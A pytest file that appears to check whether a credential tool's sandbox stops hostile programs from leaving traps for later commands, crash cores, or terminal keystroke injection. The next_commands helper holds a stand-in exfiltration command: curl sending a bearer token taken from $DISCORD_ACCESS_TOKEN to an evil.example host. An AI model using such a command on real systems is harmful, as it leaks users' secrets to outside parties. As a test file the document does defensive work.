"""What a hostile program leaves behind: for the user's next command, in cores, in the terminal."""

from __future__ import annotations

import os
import select
import shutil
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.hostile.build import house
from tests.hostile.verdicts import LATER, LEVELS
from tests.hostile.world import House
from tests.isolation.world import ROOT, USERS

pytestmark = pytest.mark.heavy

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
TYPING = Path("/proc/sys/dev/tty/legacy_tiocsti")


def as_user(house: House, *program: str) -> None:
    """One of the user's next commands, with nothing around it."""
    command = house.command("none", *program)
    environ = {name: value for name, value in house.environ().items() if name != "PYTHONPATH"}
    subprocess.run(
        command, cwd=ROOT, env=environ, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False
    )


def next_commands(house: House) -> set[str]:
    """What the traps got once the user goes on with the day."""
    evil = 'curl -s -H "X-Attack: provider_file" -H "Authorization: Bearer $DISCORD_ACCESS_TOKEN"'
    as_user(house, "/bin/bash", "-ic", "ls; authsome list")
    as_user(house, "/bin/sh", "-lc", "true")
    as_user(house, f"{sys.base_prefix}/bin/python3", "-c", "pass")
    for path in (str(house.project), ":/nowhere"):
        as_user(house, "/usr/bin/env", f"PYTHONPATH={path}", house.authsome, "list")
    house.standin.forget()
    run = ("run", "--no-sandbox", "--", "sh", "-c", f"{evil} https://evil.example/standin/echo")
    as_user(house, house.authsome, *run)
    time.sleep(2)  # the survivor waits that long
    strays = [seen for seen in house.standin.seen if house.canaries.stand_in(seen.wire)]
    return house.loot() | {name for seen in strays for name in seen.values("X-Attack")}


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("user", USERS)
def test_the_next_command_gives_away_what_the_level_does_not_promise(user: str, level: str) -> None:
    with house(user) as made:
        report = made.attack(level, list(LATER))
        assert report.status == 0, report.errors
        assert "LEAK" not in report.verdicts.values()
        found = next_commands(made)
        print(f"\nnext command after {level} as {user}: {len(found)} of {len(LATER)} traps gave the key away")
        assert found == {name for name, levels in LATER.items() if level in levels}


def cores(house: House) -> list[Path]:
    return [path for path in house.project.glob("*core*") if house.canaries.stand_in(path.read_bytes())]


@pytest.mark.parametrize("level", LEVELS)
def test_a_launcher_leaves_no_core(theirs: House, level: str) -> None:
    report = theirs.attack(level, ["inside: honest", "launcher_crashed"])
    found = cores(theirs)
    for path in theirs.project.glob("*core*"):
        path.unlink()
    if level == "none":
        # The negative twin, where the system writes cores beside the program at all.
        assert report.status == -11 or report.status == 139
        assert bool(found) == ("|" not in CORE_PATTERN.read_text() and "/" not in CORE_PATTERN.read_text())
    else:
        assert report.verdicts == {"inside: honest": "used", "launcher_crashed": "blocked"}
        assert found == []


def typed(house: House, line: str) -> None:
    """Type a line into an interactive shell of the user, on a terminal, and wait until it is done."""
    master, slave = os.openpty()
    os.chown(os.ttyname(slave), house.around.folder.stat().st_uid, -1)
    shell = house.command("none", shutil.which("setsid") or "setsid", "--ctty", "--wait", "/bin/sh", "-i")
    with subprocess.Popen(
        shell, cwd=ROOT, env=house.environ(), stdin=slave, stdout=slave, stderr=slave, start_new_session=True
    ) as process:
        os.close(slave)
        os.write(master, f"{line}; echo all-'done'\n".encode())
        _until(master, b"all-done")
        os.write(master, b"echo and-'more'; exit\n")
        _until(master, b"and-more")
        process.wait(20)
    os.close(master)


def _until(master: int, mark: bytes) -> None:
    said, end = b"", time.monotonic() + 60
    while mark not in said and time.monotonic() < end:
        if select.select([master], [], [], 1)[0]:
            said += os.read(master, 4096)
    assert mark in said, said


def _line(house: House, options: Sequence[str]) -> str:
    words = [house.authsome, "run", *options, "--", house.python, "-m", "tests.hostile.child", "push_input"]
    return " ".join(words)


@pytest.mark.parametrize("level", ["none", "guard", "sandbox"])
def test_nothing_can_be_typed_for_the_shell_that_comes_after(theirs: House, level: str) -> None:
    options = {"none": ["--no-sandbox"], "guard": [], "sandbox": ["--sandbox"]}[level]
    typed(theirs, _line(theirs, options))
    works = level == "none" and TYPING.exists() and TYPING.read_text().strip() == "1"
    assert theirs.loot() == ({"push_input"} if works else set())
